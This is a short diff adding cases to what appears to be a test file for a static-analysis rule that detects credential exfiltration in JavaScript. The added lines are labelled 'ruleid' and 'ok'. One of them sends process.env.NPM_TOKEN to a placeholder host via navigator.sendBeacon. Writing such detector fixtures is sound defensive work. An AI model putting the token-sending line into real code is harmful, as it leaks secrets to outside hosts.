@@ -28,3 +28,7 @@ await fetch(sink, { method: "POST", body: JSON.stringify({ host: os.hostname() }
 const readme = fs.readFileSync(path.join(process.cwd(), "README.md"), "utf8");
 // ok: js-secret-exfiltration-flow
 await fetch("https://api.example.com/docs", { method: "POST", body: readme });
+// ruleid: js-credential-flow
+navigator.sendBeacon("https://beacon.example.net/c", process.env.NPM_TOKEN);
+// ok: js-credential-flow
+navigator.sendBeacon("https://beacon.example.net/c", JSON.stringify({ page: "home" }));
